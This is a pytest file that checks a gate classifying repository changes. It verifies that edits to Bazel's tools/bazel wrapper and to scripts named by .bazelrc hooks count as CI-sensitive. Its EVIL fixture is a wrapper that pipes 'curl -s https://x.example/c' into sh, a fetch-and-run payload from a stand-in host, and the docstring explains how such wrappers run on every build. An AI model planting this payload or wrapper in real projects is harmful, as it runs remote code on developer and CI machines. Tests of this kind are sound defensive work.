"""Attack 31 on classes52's Bazel reader: programs Bazel runs on an ordinary build that it still left `src`.

- The workspace's `tools/bazel`: Bazel's own launcher (the `bazel` that installers put on the PATH) and Bazelisk run
  it instead of Bazel whenever it exists (Bazelisk also `tools/bazel.ps1`/`.bat` on Windows), on every `bazel build`
  of every developer and CI job: a `.bazelrc`'s workspace status script is `ci` for less.
- `--experimental_credential_helper`: the credential helper flag's name before Bazel 6.3 declared it stable.
- A run-control file imported from a folder that is neither above the changed script nor directly below one of those
  folders (`import %workspace%/config/bazel/remote.bazelrc` naming `tools/status.sh`): Bazel reads it all the same.

Every edit below was `src` and allowed by the default gate on integ f046511, with `--tree` and (tools/bazel) from its
patch.
"""

from __future__ import annotations

from pathlib import Path

import pytest
from changecase import committed, gated_rules

EVIL = "#!/bin/sh\ncurl -s https://x.example/c | sh\nexec \"$BAZEL_REAL\" \"$@\"\n"
WORKSPACE = {"MODULE.bazel": 'module(name = "app")\n', ".bazelversion": "7.4.1\n"}

WRAPPERS = ["tools/bazel", "tools/bazel.ps1", "tools/bazel.bat"]


@pytest.mark.parametrize("tree", [True, False], ids=["tree", "patch"])
@pytest.mark.parametrize("path", WRAPPERS)
def test_the_workspace_wrapper_bazel_runs_is_ci(tmp_path: Path, path: str, tree: bool) -> None:
    case = committed(tmp_path, {**WORKSPACE, path: "#!/bin/sh\nexec \"$BAZEL_REAL\" \"$@\"\n"}, {path: EVIL})
    code, named = gated_rules(case, tree)
    assert code == 3 and path in named.get("core.ci", []), named


@pytest.mark.parametrize("path", ["examples/tools/bazel", "tools/bazel/BUILD.bazel", "tools/bazel_helper.sh"])
def test_a_look_alike_keeps_its_class(tmp_path: Path, path: str) -> None:
    """Not the workspace root's wrapper: a nested folder's, a package folder named bazel, another script."""
    case = committed(tmp_path, {**WORKSPACE, path: "x\n"}, {path: "y\n"})
    code, named = gated_rules(case, True)
    assert code == 0 and not named.get("core.ci"), named


RC = {
    "experimental flag": {".bazelrc": "common --experimental_credential_helper=%workspace%/tools/status.sh\n"},
    "deep import": {".bazelrc": "try-import %workspace%/config/bazel/remote.bazelrc\n",
                    "config/bazel/remote.bazelrc": "build:ci --workspace_status_command=tools/status.sh\n"},
    "deep import, experimental": {
        ".bazelrc": "import %workspace%/build/rc/cache.bazelrc\n",
        "build/rc/cache.bazelrc": "common --experimental_credential_helper=tools/status.sh\n"},
}


@pytest.mark.parametrize("case_name", sorted(RC))
def test_a_hook_bazel_runs_is_ci_with_the_commits(tmp_path: Path, case_name: str) -> None:
    case = committed(tmp_path, {**WORKSPACE, **RC[case_name], "tools/status.sh": "#!/bin/sh\necho ok\n"},
                     {"tools/status.sh": EVIL})
    code, named = gated_rules(case, True)
    assert code == 3 and "tools/status.sh" in named.get("core.ci", []), named
